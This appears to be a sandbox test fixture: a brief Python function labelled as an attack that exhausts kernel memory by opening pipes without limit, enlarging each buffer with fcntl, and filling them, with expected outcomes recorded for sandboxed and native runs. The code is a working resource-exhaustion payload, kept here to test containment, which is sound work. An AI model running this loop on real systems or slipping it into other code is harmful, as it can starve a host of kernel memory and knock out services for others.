# attack: takes memory that belongs to the kernel
# outcome: error
# native.outcome: ok
import fcntl
import os


def solve(x):
    held = []
    try:
        while True:
            ends = os.pipe()
            os.set_blocking(ends[1], False)
            held.append(ends)
            fcntl.fcntl(ends[1], 1031, 1 << 20)
            while True:
                try:
                    os.write(ends[1], bytes(1 << 16))
                except BlockingIOError:
                    break
    except OSError:
        pass
